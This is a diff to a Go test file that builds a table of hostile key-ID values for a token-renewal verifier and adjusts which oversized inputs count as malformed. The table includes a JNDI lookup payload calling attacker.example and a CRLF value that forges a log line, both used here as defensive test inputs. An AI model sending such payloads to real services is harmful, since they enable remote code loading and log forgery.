@@ -172,7 +172,7 @@ func hostileKeys() []hostileToken {
 		{"a template", "${jndi:ldap://attacker.example/a}", "a logger that looks things up"},
 		{"a line break", `x\r\nevil: 1`, "a forged log line"},
 		{"NUL", `\u0000`, "a text that ends early elsewhere"},
-		{"5 KB", strings.Repeat("A", 5000), "a lookup that costs"},
+		{"all that the header has room for", strings.Repeat("A", 470), "a lookup that costs"},
 		{"26 digits of no ULID", strings.Repeat("U", 26), "letters that ULIDs do not have"},
 		{"over 128 bits", "8ZZZZZZZZZZZZZZZZZZZZZZZZZ", "a ULID that overflows"},
 		{"the zero ULID", "00000000000000000000000000", "a key that was never set"},
@@ -180,6 +180,7 @@ func hostileKeys() []hostileToken {
 	} {
 		add(c.name, c.why, renew.ReasonUnknownKey, func(f *forge) string { return kid(f, quote(c.kid)) })
 	}
+	add("5 KB", "a lookup that costs", renew.ReasonMalformed, func(f *forge) string { return kid(f, quote(strings.Repeat("A", 5000))) })
 	add("100 KB", "a lookup that costs", renew.ReasonMalformed, func(f *forge) string { return kid(f, quote(strings.Repeat("A", 100<<10))) })
 	change := func(name, why string, change func(kid string) string) {
 		add(name, why, renew.ReasonUnknownKey, func(f *forge) string { return kid(f, quote(change(f.es().VerificationKey().KeyID()))) })
